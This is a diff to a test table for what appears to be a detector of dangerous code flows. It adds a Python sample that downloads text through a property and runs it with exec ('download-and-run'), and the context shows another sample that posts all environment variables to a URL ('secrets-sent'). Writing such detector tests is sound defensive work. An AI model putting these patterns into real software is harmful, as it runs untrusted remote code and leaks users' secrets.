@@ -137,6 +137,11 @@ const flows: readonly Case[] = [
     ['secrets-sent'],
   ],
   [
+    'what is read like a name of an object',
+    'import os, requests\nclass C:\n    @property\n    def code(self):\n        return requests.get(u).text\n    def go(self):\n        exec(self.code)\n',
+    ['download-and-run'],
+  ],
+  [
     'what is handed out piece by piece',
     'import os, requests\ndef g():\n    yield from os.environ.items()\nrequests.post(u, json=dict(g()))\n',
     ['secrets-sent'],
